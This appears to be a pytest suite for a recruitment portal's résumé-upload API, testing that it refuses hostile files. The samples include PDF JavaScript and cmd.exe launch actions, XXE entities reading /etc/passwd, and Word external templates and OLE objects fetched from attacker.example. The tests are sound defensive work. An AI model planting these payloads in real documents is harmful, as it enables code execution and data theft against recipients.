"""Résumé intake through the REST API: POST /api/v1/campaigns/<slug>/applications/."""

import hashlib
import io
import os
import zipfile
from datetime import timedelta
from unittest import mock

import pytest
from django.db import OperationalError, connection
from django.utils import timezone

from recruitment.models import Application, Candidate, ResumeVersion
from tests.conftest import image_bytes

from .conftest import (
    DOCM_MAIN,
    REL_TYPES,
    application_data,
    doc_bytes,
    document_xml,
    docx_bytes,
    docx_with_a_lying_directory,
    lie_about_size,
    pdf_bytes,
    relationships_xml,
    stored_files,
    upload,
)

pytestmark = pytest.mark.django_db

URL = "/api/v1/campaigns/liangjiang-live/applications/"


def post(client, data, **headers):
    return client.post(URL, data, headers=headers)


@pytest.mark.parametrize(
    "filename, data, content_type",
    [
        ("resume.pdf", pdf_bytes(), "application/pdf"),
        ("resume.docx", docx_bytes(), None),
        ("resume.doc", doc_bytes(), None),
        ("张伟-简历.pdf", pdf_bytes(), "application/pdf"),
        ("李娜 简历（最新）.docx", docx_bytes(), None),
    ],
)
def test_a_valid_resume_is_accepted_and_stored_with_its_hash(
    client, campaign, isolated_storage, filename, data, content_type
):
    response = post(client, application_data(resume=upload(filename, data, content_type)))

    assert response.status_code == 201, response.json()
    body = response.json()
    assert body["created"] is True
    assert body["reference"].startswith("LJ-")
    application = Application.objects.get(reference=body["reference"])
    assert body["status_url"].endswith(f"/en/applications/{application.status_token}/")
    assert application.stage == "received"
    assert application.resume_original_name == filename
    assert filename not in application.resume.name  # the stored name is generated
    stored = stored_files(isolated_storage)
    assert len(stored) == 1
    assert hashlib.sha256(stored[0].read_bytes()).hexdigest() == application.resume_sha256
    assert application.resume_size == len(data)
    assert application.consent_version and len(application.consent_sha256) == 64
    assert application.share_consent_at is not None


def test_the_resume_is_flushed_to_disk_before_its_application_is_recorded(
    client, campaign, isolated_storage
):
    """A power cut after the answer must not keep the row and lose the file."""
    flushed = []
    real_fsync = os.fsync

    def fsync(fd):
        flushed.append((os.readlink(f"/proc/self/fd/{fd}"), Application.objects.count()))
        real_fsync(fd)

    with mock.patch("portal.storage.os.fsync", side_effect=fsync):
        response = post(client, application_data())

    assert response.status_code == 201, response.json()
    stored = stored_files(isolated_storage)
    assert [(str(stored[0]), 0), (str(stored[0].parent), 0)] == flushed


WEB_LINK = (
    b"<< /Type /Annot /Subtype /Link /Rect [72 700 200 712] "
    b"/A << /S /URI /URI (https://www.linkedin.com/in/li-na) >> >>"
)


OPEN_AT_PAGE_1 = {"extra_catalog": b"/OpenAction [3 0 R /XYZ null null 0] "}
LINK_TO_THE_WEB = {"extra_page": b"/Annots [6 0 R] ", "extra_objects": [WEB_LINK]}
HARMLESS_PDFS = [
    # What Word and LibreOffice write: an /OpenAction that is a destination, not an action.
    pytest.param(pdf_bytes(**OPEN_AT_PAGE_1), id="opens-at-page-1"),
    pytest.param(
        pdf_bytes(**OPEN_AT_PAGE_1, object_stream=True), id="opens-at-page-1-in-an-object-stream"
    ),
    pytest.param(
        pdf_bytes(
            extra_catalog=b"/OpenAction 6 0 R ",
            extra_objects=[b"[3 0 R /Fit]"],
            object_stream=True,
        ),
        id="opens-at-page-1-by-reference-in-an-object-stream",
    ),
    pytest.param(pdf_bytes(**LINK_TO_THE_WEB), id="links-to-a-web-page"),
    pytest.param(
        pdf_bytes(**LINK_TO_THE_WEB, object_stream=True),
        id="links-to-a-web-page-in-an-object-stream",
    ),
]


@pytest.mark.parametrize("data", HARMLESS_PDFS)
def test_a_pdf_that_opens_at_its_first_page_or_links_to_the_web_is_accepted(
    client, campaign, django_capture_on_commit_callbacks, data
):
    with django_capture_on_commit_callbacks(execute=True):
        response = post(client, application_data(resume=upload("cv.pdf", data)))

    assert response.status_code == 201
    application = Application.objects.get()
    assert not application.quarantined
    assert "Zhang Wei" in application.extracted_text


def test_a_word_file_with_links_to_the_web_and_pictures_inside_is_accepted(
    client, campaign, django_capture_on_commit_callbacks
):
    rels = relationships_xml(
        f'Id="rId8" Type="{REL_TYPES}image" Target="media/image1.png"',
        f'Id="rId9" Type="{REL_TYPES}hyperlink" TargetMode="External" '
        'Target="https://www.linkedin.com/in/li-na"',
        f"Id='rId10' Type='{REL_TYPES}hyperlink' TargetMode='External' "
        "Target='mailto:li.na@example.com'",
    )
    data = docx_bytes(
        extra={
            "word/_rels/document.xml.rels": rels,
            "word/media/image1.png": image_bytes("PNG"),
            "word/styles.xml": '<?xml version="1.0"?><!-- ' + "styles " * 1000 + "--><styles/>",
        }
    )

    with django_capture_on_commit_callbacks(execute=True):
        response = post(client, application_data(resume=upload("cv.docx", data)))

    assert response.status_code == 201, response.json()
    application = Application.objects.get()
    assert not application.quarantined
    assert "Li Na software engineer" in application.extracted_text


def test_the_stored_type_follows_the_content_not_the_name(client, campaign):
    response = post(client, application_data(resume=upload("cv.pdf", docx_bytes())))

    assert response.status_code == 201
    application = Application.objects.get()
    assert application.resume_content_type.endswith("wordprocessingml.document")
    assert application.resume.name.endswith(".docx")


def _bomb():
    return docx_bytes(document=document_xml(text=" " * (5 * 1024 * 1024)))


HOSTILE_FILES = [
    ("png-renamed.pdf", lambda: image_bytes("PNG"), "only PDF, DOC or DOCX"),
    (
        "script.pdf",
        lambda: pdf_bytes(
            extra_catalog=b"/OpenAction 6 0 R ",
            extra_objects=[b"<< /S /JavaScript /JS (app.alert(1)) >>"],
        ),
        "scripts, macros",
    ),
    (
        "escaped-script.pdf",
        lambda: pdf_bytes(extra_objects=[b"<< /S /J#61vaScript >>"]),
        "scripts, macros",
    ),
    (
        "open-action-by-reference.pdf",
        lambda: pdf_bytes(
            extra_catalog=b"/OpenAction 6 0 R ", extra_objects=[b"<< /S /URI /URI (x) >>"]
        ),
        "scripts, macros",
    ),
    (
        "launch.pdf",
        lambda: pdf_bytes(extra_objects=[b"<< /S /Launch /F (cmd.exe) >>"]),
        "scripts, macros",
    ),
    (
        "attachment.pdf",
        lambda: pdf_bytes(extra_objects=[b"<< /Type /EmbeddedFile >>"]),
        "scripts, macros",
    ),
    (
        "junk-after-eof.pdf",
        lambda: pdf_bytes() + b"PK\x03\x04 hidden zip",
        "extra data after its end",
    ),
    ("truncated.pdf", lambda: pdf_bytes()[:200], "incomplete or damaged"),
    ("bomb.docx", _bomb, "far more data"),
    (
        "xxe.docx",
        lambda: docx_bytes(
            document=document_xml(
                text="&xxe;", prolog='<!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
            )
        ),
        "damaged",
    ),
    (
        "macros.docm",
        lambda: docx_bytes(main=DOCM_MAIN, extra={"word/vbaProject.bin": b"\x00" * 64}),
        "scripts, macros",
    ),
    (
        "macros.docx",
        lambda: docx_bytes(extra={"word/vbaProject.bin": b"\x00" * 64}),
        "scripts, macros",
    ),
    ("no-document.docx", lambda: _zip_without_document(), "damaged"),
    ("macros.doc", lambda: doc_bytes(extra="Macros".encode("utf-16-le")), "scripts, macros"),
    (
        "excel.doc",
        lambda: bytes.fromhex("D0CF11E0A1B11AE1") + b"\x00" * 1024,
        "not a Word document",
    ),
    # To a PDF reader NUL is white-space: `/JavaScript\x00` is /JavaScript.
    (
        "nul-after-javascript-and-js.pdf",
        lambda: pdf_bytes(extra_objects=[b"<< /S /JavaScript\x00/JS\x00(app.alert(1)) >>"]),
        "scripts, macros",
    ),
    (
        "nul-after-launch.pdf",
        lambda: pdf_bytes(extra_objects=[b"<< /S /Launch\x00/F (cmd.exe) >>"]),
        "scripts, macros",
    ),
    (
        "nul-after-embedded-file.pdf",
        lambda: pdf_bytes(extra_objects=[b"<< /Type /EmbeddedFile\x00>>"]),
        "scripts, macros",
    ),
    (
        "nul-after-open-action.pdf",
        lambda: pdf_bytes(
            extra_catalog=b"/OpenAction\x00 6 0 R ", extra_objects=[b"<< /S /URI /URI (x) >>"]
        ),
        "scripts, macros",
    ),
    (
        "single-quoted-external-template.docx",
        lambda: docx_bytes(
            extra={
                "word/_rels/settings.xml.rels": relationships_xml(
                    f"Id='rId1' Type='{REL_TYPES}attachedTemplate' "
                    "Target='http://attacker.example/cv.dotm' TargetMode='External'"
                )
            }
        ),
        "outside itself",
    ),
    (
        "external-mode-as-a-character-reference.docx",
        lambda: docx_bytes(
            extra={
                "word/_rels/settings.xml.rels": relationships_xml(
                    f'Id="rId1" Type="{REL_TYPES}attachedTemplate" '
                    'Target="http://attacker.example/cv.dotm" TargetMode="&#69;xternal"'
                )
            }
        ),
        "outside itself",
    ),
    (
        "mhtml-ole-object.docx",
        lambda: docx_bytes(
            extra={
                "word/_rels/document.xml.rels": relationships_xml(
                    f'Id="rId5" Type="{REL_TYPES}oleObject" TargetMode="External" '
                    'Target="mhtml:http://attacker.example/x.html!x-usc:http://attacker.example/x"'
                )
            }
        ),
        "outside itself",
    ),
    (
        "picture-on-a-file-share.docx",
        lambda: docx_bytes(
            extra={
                "word/_rels/document.xml.rels": relationships_xml(
                    f'Id="rId6" Type="{REL_TYPES}image" TargetMode="External" '
                    'Target="file://attacker.example/share/photo.png"'
                )
            }
        ),
        "outside itself",
    ),
    (
        "hyperlink-to-a-file-share.docx",
        lambda: docx_bytes(
            extra={
                "word/_rels/document.xml.rels": relationships_xml(
                    f'Id="rId7" Type="{REL_TYPES}hyperlink" TargetMode="External" '
                    'Target="\\\\attacker.example\\share\\cv.docx"'
                )
            }
        ),
        "outside itself",
    ),
    (
        "dtd-after-4kb-of-styles.docx",
        lambda: docx_bytes(extra={"word/styles.xml": _styles_with_a_late_dtd()}),
        "damaged",
    ),
    (
        "utf16-dtd-after-4kb-of-styles.docx",
        lambda: docx_bytes(extra={"word/styles.xml": _styles_with_a_late_dtd().encode("utf-16")}),
        "damaged",
    ),
    # The zip directory lies: each part is larger than it says.
    (
        "understated-document-size.docx",
        lambda: lie_about_size(
            docx_bytes(document=document_xml(text="a" * 2_000_000)),
            "word/document.xml",
            file_size=100_000,
        ),
        "damaged",
    ),
    (
        "understated-picture-size.docx",
        lambda: lie_about_size(
            docx_bytes(extra={"word/media/image1.png": b"\x00" * 5_000_000}),
            "word/media/image1.png",
            file_size=1_000,
        ),
        "damaged",
    ),
    ("overstated-compressed-size.docx", docx_with_a_lying_directory, "far more data"),
    ("empty.pdf", lambda: b"", "empty"),
    ("just-over-10mb.pdf", lambda: b"%PDF-1.4\n" + b"0" * (10 * 1024 * 1024), "larger than 10 MB"),
    ("notes.txt", lambda: b"just some text", "only PDF, DOC or DOCX"),
]


def _styles_with_a_late_dtd():
    return (
        '<?xml version="1.0" encoding="UTF-8"?><!--' + "x" * 5000 + "-->"
        '<!DOCTYPE w:styles [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        '<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        "<w:style><w:name w:val='&xxe;'/></w:style></w:styles>"
    )


def _zip_without_document():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
    return out.getvalue()


@pytest.mark.parametrize(
    "filename, make, message", HOSTILE_FILES, ids=[row[0] for row in HOSTILE_FILES]
)
def test_a_hostile_file_is_refused_with_a_message_and_nothing_is_stored(
    client, campaign, isolated_storage, filename, make, message
):
    response = post(client, application_data(resume=upload(filename, make())))

    assert response.status_code == 400
    errors = response.json()["resume"]
    assert any(message.lower() in error.lower() for error in errors), errors
    assert Application.objects.count() == 0
    assert Candidate.objects.count() == 0
    assert stored_files(isolated_storage) == []


def test_a_request_over_the_size_limit_is_refused_before_it_is_read(client, campaign):
    big = upload("big.pdf", b"%PDF-1.4\n" + b"0" * (11 * 1024 * 1024))

    response = post(client, application_data(resume=big))

    assert response.status_code == 413
    assert "10 MB" in response.json()["resume"][0]
    assert Application.objects.count() == 0


def test_a_declared_content_length_over_the_limit_gets_413_without_a_body(client, campaign):
    response = client.generic(
        "POST",
        URL,
        b"",
        content_type="multipart/form-data; boundary=x",
        CONTENT_LENGTH=str(50 * 1024 * 1024),
    )

    assert response.status_code == 413


def test_oversized_text_fields_get_413(client, campaign):
    response = post(client, application_data(cover_letter="x" * (3 * 1024 * 1024)))

    assert response.status_code == 413
    assert "too large" in response.json()["detail"]
    assert Application.objects.count() == 0


def test_a_body_that_is_not_multipart_gets_400(client, campaign):
    response = client.post(URL, "full_name=x", content_type="application/json")

    assert response.status_code in (400, 415)
    assert Application.objects.count() == 0


@pytest.mark.parametrize(
    "overrides, field, message",
    [
        ({"full_name": None}, "full_name", "This field is required."),
        ({"full_name": "   "}, "full_name", "This field is required."),
        ({"email": "not-an-email"}, "email", "Enter a valid email address."),
        ({"phone": "call me"}, "phone", "Enter a phone number"),
        ({"phone": "12"}, "phone", "Enter a phone number"),
        ({"resume": None}, "resume", "Please attach your résumé"),
        ({"consent": None}, "consent", "Please agree to the processing"),
        ({"consent": "false"}, "consent", "Please agree to the processing"),
        ({"share_consent": None}, "share_consent", "named employers"),
        ({"job": "not-in-this-campaign"}, "job", "not part of this campaign"),
        ({"graduation_year": "1900"}, "graduation_year", "greater than or equal to 1950"),
        ({"graduation_year": "soon"}, "graduation_year", "Enter a whole number."),
        ({"years_experience": "-1"}, "years_experience", "greater than or equal to 0"),
        ({"source": "<script>"}, "source", "letters, digits"),
        ({"education": "phd-from-the-moon"}, "education", "Select a valid choice."),
    ],
)
def test_missing_or_malformed_fields_get_400_with_a_message_per_field(
    client, campaign, isolated_storage, overrides, field, message
):
    response = post(client, application_data(**overrides))

    assert response.status_code == 400
    assert any(message in error for error in response.json()[field]), response.json()
    assert Application.objects.count() == 0
    assert stored_files(isolated_storage) == []


def test_a_job_of_the_campaign_and_the_optional_fields_are_recorded(client, campaign):
    response = post(
        client,
        application_data(
            job="battery-engineer",
            city="Chongqing",
            education="master",
            school="Chongqing University",
            major="Automotive engineering",
            graduation_year="2024",
            years_experience="2",
            cover_letter="I build battery packs.",
            source="livestream",
            email="  Li.Na@Example.COM ",
        ),
    )

    assert response.status_code == 201
    application = Application.objects.select_related("job", "candidate").get()
    assert application.job.slug == "battery-engineer"
    assert application.education == "master"
    assert application.graduation_year == 2024
    assert application.source == "livestream"
    assert application.candidate.email == "li.na@example.com"


def test_a_repeated_idempotency_key_answers_as_the_first_time(client, campaign, isolated_storage):
    first = post(client, application_data(), **{"Idempotency-Key": "abc-123"})
    again = post(client, application_data(), **{"Idempotency-Key": "abc-123"})

    assert first.status_code == again.status_code == 201
    assert again.json() == first.json()
    assert Application.objects.count() == 1
    assert ResumeVersion.objects.count() == 0
    assert len(stored_files(isolated_storage)) == 1


def test_retries_of_a_creating_and_a_repeating_request_each_get_their_first_answer(
    client, campaign
):
    created = post(client, application_data(), **{"Idempotency-Key": "first"})
    repeated = post(client, application_data(city="Chengdu"), **{"Idempotency-Key": "second"})

    created_again = post(client, application_data(), **{"Idempotency-Key": "first"})
    repeated_again = post(
        client, application_data(city="Chengdu"), **{"Idempotency-Key": "second"}
    )

    assert (created.status_code, repeated.status_code) == (201, 202)
    assert (created_again.status_code, created_again.json()) == (201, created.json())
    assert (repeated_again.status_code, repeated_again.json()) == (202, repeated.json())
    assert Application.objects.get().city == ""  # until the owner confirms by email


def test_an_idempotency_key_is_never_replayed_to_someone_else(client, campaign):
    post(client, application_data(), **{"Idempotency-Key": "1"})

    response = post(
        client, application_data(email="intruder@example.com"), **{"Idempotency-Key": "1"}
    )

    assert response.status_code == 409
    assert "already used for a different application" in response.json()["detail"]
    assert "status_url" not in response.json()
    assert Application.objects.count() == 1


def test_a_retry_after_the_campaign_closed_still_gets_its_first_answer(client, campaign):
    first = post(client, application_data(), **{"Idempotency-Key": "late-retry"})
    campaign.closes_at = timezone.now() - timedelta(seconds=1)
    campaign.save()

    again = post(client, application_data(), **{"Idempotency-Key": "late-retry"})
    stranger = post(client, application_data(email="new@example.com"))

    assert first.status_code == again.status_code == 201
    assert again.json() == first.json()
    assert stranger.status_code == 409


def test_a_new_application_takes_no_select_and_two_inserts(
    client, campaign, settings, django_assert_max_num_queries, django_capture_on_commit_callbacks
):
    # During a burst every round trip counts: the campaign and its notice are kept
    # in the process for a few seconds, and the first application queued the
    # pass that will process the next ones too, so only one transaction remains
    # holding the candidate and the application (with its résumé and its
    # Idempotency-Key). (The test's own transaction turns that one into a
    # savepoint and its release.)
    settings.TASKS = {"default": {"BACKEND": "django_tasks_db.DatabaseBackend"}}
    with django_capture_on_commit_callbacks(execute=True):
        post(client, application_data(email="first@example.com"))
    with django_assert_max_num_queries(4) as captured:
        response = post(client, application_data(), **{"Idempotency-Key": "q-1"})

    assert response.status_code == 201
    sql = [query["sql"] for query in captured.captured_queries]
    assert sum(statement.startswith("SELECT") for statement in sql) == 0
    assert sum(statement.startswith("INSERT") for statement in sql) == 2


def test_a_kept_campaign_answers_409_as_soon_as_its_window_closes(client, campaign):
    # The intake keeps the campaign in the process for a few seconds; its window
    # is still checked against the clock on every request.
    assert post(client, application_data(email="first@example.com")).status_code == 201
    just_after = campaign.closes_at + timedelta(milliseconds=1)
    with mock.patch("django.utils.timezone.now", return_value=just_after):
        response = post(client, application_data())

    assert response.status_code == 409
    assert Application.objects.count() == 1


def test_a_kept_campaign_closed_by_an_editor_answers_409_at_once(client, campaign):
    assert post(client, application_data(email="first@example.com")).status_code == 201
    campaign.closes_at = timezone.now()
    campaign.save()

    assert post(client, application_data()).status_code == 409


def test_a_new_consent_notice_is_the_one_recorded_after_the_campaign_is_saved(client, campaign):
    from recruitment.models import ConsentNotice

    assert post(client, application_data(email="first@example.com")).status_code == 201
    ConsentNotice.objects.create(
        version="2027-01", processing_text="New purpose.", share_text="New sharing {employers}."
    )
    campaign.save()  # a new notice takes effect with the campaign's next save

    assert post(client, application_data()).status_code == 201
    application = Application.objects.get(email="li.na@example.com")
    assert application.consent_version == "2027-01"
    assert application.consent_sha256 == hashlib.sha256(b"New purpose.").hexdigest()


def test_a_closed_campaign_answers_409(client, closed_campaign, isolated_storage):
    response = client.post("/api/v1/campaigns/june-5/applications/", application_data())

    assert response.status_code == 409
    assert "not accepting applications" in response.json()["detail"]
    assert stored_files(isolated_storage) == []


def test_an_unknown_campaign_answers_404(client, db):
    response = client.post("/api/v1/campaigns/nope/applications/", application_data())

    assert response.status_code == 404


def test_a_contact_only_campaign_accepts_an_application_without_a_resume(client, campaign):
    campaign.allow_contact_only = True
    campaign.save()

    response = post(client, application_data(resume=None))

    assert response.status_code == 201
    assert not Application.objects.get().resume


def test_campaigns_keep_their_own_rules_between_requests_of_one_process(
    client, campaign, closed_campaign
):
    # The API's form fields are configured once per campaign and shared by its
    # requests: one campaign's rules never leak into another's, nor an error
    # into the next request.
    contact_only = closed_campaign
    contact_only.slug = "contact-only"
    contact_only.opens_at = campaign.opens_at
    contact_only.closes_at = campaign.closes_at
    contact_only.allow_contact_only = True
    contact_only.save()
    contact_only_url = "/api/v1/campaigns/contact-only/applications/"

    answers = [
        client.post(contact_only_url, application_data(email="a@example.com", resume=None)),
        post(client, application_data(email="b@example.com", resume=None)),
        post(client, application_data(email="c@example.com", phone="call me")),
        post(client, application_data(email="d@example.com")),
        client.post(contact_only_url, application_data(email="e@example.com", resume=None)),
    ]

    assert [answer.status_code for answer in answers] == [201, 400, 400, 201, 201]
    assert answers[1].json() == {"resume": ["Please attach your résumé (PDF, DOC or DOCX)."]}
    assert list(answers[2].json()) == ["phone"]


def test_a_job_added_to_the_campaign_can_be_chosen_at_once(client, campaign, employers):
    assert post(client, application_data(email="first@example.com")).status_code == 201
    job = campaign.jobs.create(
        organization=employers[0], title="Welding engineer", slug="welding-engineer"
    )

    response = post(client, application_data(job="welding-engineer"))

    assert response.status_code == 201, response.json()
    assert Application.objects.get(email="li.na@example.com").job == job


def test_the_intake_url_answers_other_methods_as_before_and_is_documented_once(client, db):
    assert client.get(URL).status_code == 405
    schema = client.get("/api/schema/").content.decode()
    assert schema.count("/api/v1/campaigns/{slug}/applications/:") == 1


def test_too_many_applications_from_one_address_get_429_with_retry_after(
    client, campaign, settings
):
    settings.INTAKE_RATE_LIMIT = 2
    answers = [
        post(client, application_data(email=f"person{i}@example.com")).status_code
        for i in range(3)
    ]

    assert answers == [201, 201, 429]
    response = post(client, application_data(email="late@example.com"))
    assert response.status_code == 429
    assert 1 <= int(response["Retry-After"]) <= 60
    assert Application.objects.count() == 2


def test_the_rate_limit_counts_the_forwarded_address_only_from_a_trusted_proxy(
    client, campaign, settings
):
    settings.INTAKE_RATE_LIMIT = 1
    settings.TRUSTED_PROXIES = ["127.0.0.1"]
    # Behind the trusted proxy two different clients each get their own allowance.
    a = post(client, application_data(email="a@example.com"), **{"X-Forwarded-For": "203.0.113.1"})
    b = post(client, application_data(email="b@example.com"), **{"X-Forwarded-For": "203.0.113.2"})
    assert (a.status_code, b.status_code) == (201, 201)

    settings.TRUSTED_PROXIES = []
    # From an untrusted peer the header is ignored: the peer address is the client.
    c = post(
        client, application_data(email="c@example.com"), **{"X-Forwarded-For": "198.51.100.7"}
    )
    d = post(
        client, application_data(email="d@example.com"), **{"X-Forwarded-For": "198.51.100.8"}
    )
    assert (c.status_code, d.status_code) == (201, 429)


def test_a_database_outage_answers_503_with_retry_after_and_leaves_no_file(
    client, campaign, isolated_storage
):
    def database_down(execute, sql, params, many, context):
        if sql.startswith("INSERT"):
            raise OperationalError("the database system is shutting down")
        return execute(sql, params, many, context)

    with connection.execute_wrapper(database_down):
        response = post(client, application_data())

    assert response.status_code == 503
    assert response["Retry-After"]
    assert "try again" in response.json()["detail"]
    assert stored_files(isolated_storage) == []


def test_a_database_outage_before_the_campaign_is_read_also_answers_503(client, campaign):
    with mock.patch("recruitment.api.intake_campaign", side_effect=OperationalError("down")):
        response = post(client, application_data())

    assert response.status_code == 503
    assert response["Retry-After"]


def test_a_cache_outage_does_not_stop_the_intake(client, campaign, settings):
    settings.INTAKE_RATE_LIMIT = 5
    settings.CACHES = {
        **settings.CACHES,
        "default": {
            "BACKEND": "django_redis.cache.RedisCache",
            "LOCATION": "redis://127.0.0.1:1/0",  # nothing listens there
            "OPTIONS": {
                "SOCKET_CONNECT_TIMEOUT": 0.2,
                "SOCKET_TIMEOUT": 0.2,
                "IGNORE_EXCEPTIONS": True,  # as in portal/settings.py
            },
        },
    }
    response = post(client, application_data())

    assert response.status_code == 201
    assert Application.objects.count() == 1


@pytest.mark.parametrize("url", [URL, "/en/campaigns/liangjiang-live/apply/"], ids=["api", "form"])
@pytest.mark.parametrize(
    "content_type, body",
    [
        (
            "multipart/form-data; boundary=abc",
            b'--abc\r\nContent-Disposition: form-data; name="x"',
        ),
        ("multipart/form-data", b"no boundary at all"),
        ("multipart/form-data; boundary=abc", b"\xff\xfe not multipart"),
        ("application/x-www-form-urlencoded", b"%%%%&&&=="),
    ],
    ids=["unterminated", "no-boundary", "garbage", "bad-urlencoding"],
)
def test_a_malformed_body_gets_a_4xx_never_a_500(client, campaign, url, content_type, body):
    response = client.generic("POST", url, body, content_type=content_type)

    assert 400 <= response.status_code < 500
    assert Application.objects.count() == 0


def truncated_multipart(fields: dict, resume: bytes, *, cut: int) -> tuple[bytes, str]:
    """A multipart body whose résumé part is cut off `cut` bytes before its end.

    The body ends there, without the closing boundary, and its Content-Length
    matches: what a client sends when its upload breaks off and it gives up.
    """
    boundary = "----cut-off-upload"
    parts = [
        f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'
        for name, value in fields.items()
    ]
    head = "".join(parts) + (
        f'--{boundary}\r\nContent-Disposition: form-data; name="resume"; '
        'filename="resume.pdf"\r\nContent-Type: application/pdf\r\n\r\n'
    )
    body = head.encode() + resume + f"\r\n--{boundary}--\r\n".encode()
    return body[
        : len(head.encode()) + len(resume) - cut
    ], f"multipart/form-data; boundary={boundary}"


@pytest.mark.parametrize("cut", [1, 100, 0], ids=["last-byte", "mid-file", "no-boundary"])
@pytest.mark.parametrize(
    "url, extra",
    [
        (URL, {}),
        (
            "/en/campaigns/liangjiang-live/apply/",
            {"consent": "on", "share_consent": "on", "form_token": "t", "website": ""},
        ),
    ],
    ids=["api", "form"],
)
def test_a_truncated_upload_is_refused_naming_the_resume(
    client, campaign, isolated_storage, url, extra, cut
):
    campaign.allow_contact_only = True  # without the file it would otherwise pass
    campaign.save()
    fields = application_data(resume=None) | extra
    body, content_type = truncated_multipart(fields, pdf_bytes(), cut=cut)

    response = client.generic("POST", url, body, content_type=content_type)

    assert response.status_code == 400
    message = "The upload of your résumé was cut off before it finished."
    if url == URL:
        assert message in response.json()["resume"][0]
    else:
        assert message in response.content.decode()
    assert Application.objects.count() == 0
    assert stored_files(isolated_storage) == []
